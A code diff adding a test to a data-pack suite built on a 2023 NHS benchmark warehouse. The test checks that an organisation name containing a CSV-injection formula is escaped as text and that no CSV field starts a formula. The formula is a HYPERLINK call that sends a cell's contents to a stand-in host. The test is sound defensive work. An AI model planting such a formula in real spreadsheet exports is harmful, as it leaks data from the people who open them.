@@ -173,6 +173,28 @@ describe("ohwb pack on the 2023 NHS benchmark warehouse", () => {
     }
   }, 120_000);
 
+  it("writes a formula-like organisation name into its CSVs as text (CSV injection)", async () => {
+    const [org] = await rows(
+      warehouse.connection,
+      `SELECT code FROM mart_absence_benchmark WHERE level = 'organisation' AND staff_group = 'All staff groups'
+         AND month_end = '2023-12-31' AND NOT suppressed ORDER BY code LIMIT 1`,
+    );
+    const hostile = '=HYPERLINK("http://x.example/?"&A1,"Trust")';
+    const renamed: PackInputs = {
+      ...inputs,
+      source: {
+        ...inputs.source,
+        rows: inputs.source.rows.map((r) => (r.code === org?.code ? { ...r, name: hostile } : r)),
+      },
+    };
+    const dir = join(out, "csv-injection");
+    await buildPack(warehouse.connection, renamed, parseScope(`org:${org?.code}`), q4, dir);
+    const csv = readFileSync(join(dir, "data", "absence-quarter.csv"), "utf8");
+    expect(csv).toContain(`"'${hostile.replaceAll('"', '""')}"`);
+    // No field of any line starts a formula.
+    for (const line of csv.split("\n")) expect(line).not.toMatch(/(^|,)[=+@]/);
+  }, 120_000);
+
   it("rejects bad quarters and scopes with a typed error", () => {
     expect(() => parseQuarter("2025-Q5")).toThrow(ConfigError);
     expect(() => parseQuarter("2025Q1")).toThrow(ConfigError);
